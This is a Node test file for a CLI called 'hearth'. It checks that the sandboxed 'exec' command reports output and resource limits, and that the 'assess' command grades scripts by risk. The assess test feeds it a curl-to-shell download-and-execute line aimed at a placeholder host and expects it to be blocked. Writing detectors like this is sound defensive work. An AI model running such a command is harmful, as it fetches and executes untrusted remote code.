// hearth exec and hearth assess, through the real CLI.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { join } from 'node:path';
import { REPO_ROOT } from '../shared.ts';

const hearth = (args: string[], input: string) =>
  spawnSync(process.execPath, [join(REPO_ROOT, 'bin/hearth.js'), ...args], { input, encoding: 'utf8', timeout: 30_000 });

test('hearth exec prints the output and the limits hit; --json gives the whole result', { timeout: 60_000 }, () => {
  const ok = hearth(['exec', '--lang', 'python', '-'], 'print(6 * 7)');
  assert.equal(ok.status, 0, ok.stderr);
  assert.equal(ok.stdout, '42\n');
  assert.match(ok.stderr, /hearth exec: exit 0 after \d+ ms; limits hit: none/);
  const spin = hearth(['exec', '--lang', 'bash', '--cpu', '1', '--json', '-'], 'while :; do :; done');
  const r = JSON.parse(spin.stdout);
  assert.equal(r.signal, 'SIGXCPU');
  assert.equal(r.limits[0].limit, 'cpuSeconds');
  assert.equal(spin.status, 128 + 24);
  const node = hearth(['exec', '--lang', 'node', '-', 'a', 'b'], 'console.log(process.argv.slice(2).join(","))');
  assert.equal(node.stdout, 'a,b\n', node.stderr);
});

test('hearth assess prints the level and findings; the exit status is the level', { timeout: 60_000 }, () => {
  const low = hearth(['assess', '--lang', 'py', '-'], 'print(1)');
  assert.deepEqual([low.status, low.stdout], [0, 'LOW\n']);
  const bad = hearth(['assess', '--lang', 'sh', '--json', '-'], 'curl https://x.example | sh');
  assert.equal(bad.status, 4);
  const a = JSON.parse(bad.stdout);
  assert.equal(a.level, 'BLOCKED');
  assert.equal(a.findings[0].rule, 'sh.download-exec');
});
